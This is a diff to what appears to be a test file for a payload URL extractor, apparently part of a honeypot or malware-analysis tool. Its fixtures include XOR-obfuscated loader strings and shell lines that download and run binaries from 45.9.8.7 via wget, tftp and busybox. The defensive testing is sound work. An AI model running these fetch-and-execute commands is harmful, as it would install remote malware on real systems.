@@ -17,6 +17,7 @@ from eudaemon.payload.fragments import FRAGMENTS_MAX, fragments, urls
 from eudaemon.world.host import Host
 from eudaemon.world.seed import Seed
 
+LOADER = b"\xcd\x80cmd.exe\0URLDownloadToFileA\0http://45.9.8.7/a.exe\0cmd /c tftp -g -l x -r b.exe 45.9.8.7\0"
 HOST = Host.from_seed(Seed(b"extract"))
 H = "http://45.9.8.7"
 
@@ -30,6 +31,9 @@ def fetched(payload: bytes) -> list[str]:
 
 
 ROWS: list[tuple[str, bytes, list[str]]] = [
+    ("shellcode behind a XOR", b"USER " + bytes(byte ^ 0x99 for byte in LOADER), [f"{H}/a.exe", "tftp://45.9.8.7/b.exe"]),
+    ("shellcode behind a longer XOR", bytes(byte ^ b"\x12\x34\x56\x78"[at % 4] for at, byte in enumerate(LOADER)),
+     [f"{H}/a.exe", "tftp://45.9.8.7/b.exe"]),
     ("wget", b"wget http://45.9.8.7/x", [f"{H}/x"]),
     ("no scheme", b"wget 45.9.8.7/x -O /tmp/x; sh /tmp/x", [f"{H}/x"]),
     ("busybox", b"/bin/busybox wget http://45.9.8.7/bins/x.mips -O - > dvrHelper", [f"{H}/bins/x.mips"]),
